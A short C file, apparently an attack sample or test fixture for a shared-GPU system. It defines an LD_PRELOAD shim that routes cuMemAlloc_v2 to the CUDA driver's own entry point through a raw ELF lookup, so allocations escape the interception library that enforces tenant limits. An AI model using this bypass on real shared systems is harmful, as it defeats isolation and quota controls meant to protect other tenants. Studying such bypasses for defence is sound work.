/* Attack: the tenant's LD_PRELOAD shim, loaded ahead of /etc/ld.so.preload, so an unmodified
 * application's cuMemAlloc_v2 binds here first; the shim forwards it to the driver's own entry
 * point found by a raw ELF lookup, out of the interception library's sight. */
#define _GNU_SOURCE
#include <stddef.h>
#include <cuda.h>
#include "elf_lookup.h"

__attribute__((visibility("default"))) CUresult cuMemAlloc_v2(CUdeviceptr *dptr, size_t bytes) {
    CUresult (*real)(CUdeviceptr *, size_t) = (CUresult (*)(CUdeviceptr *, size_t))elf_lookup("libcuda.so", "cuMemAlloc_v2");
    return real ? real(dptr, bytes) : CUDA_ERROR_NOT_FOUND;
}
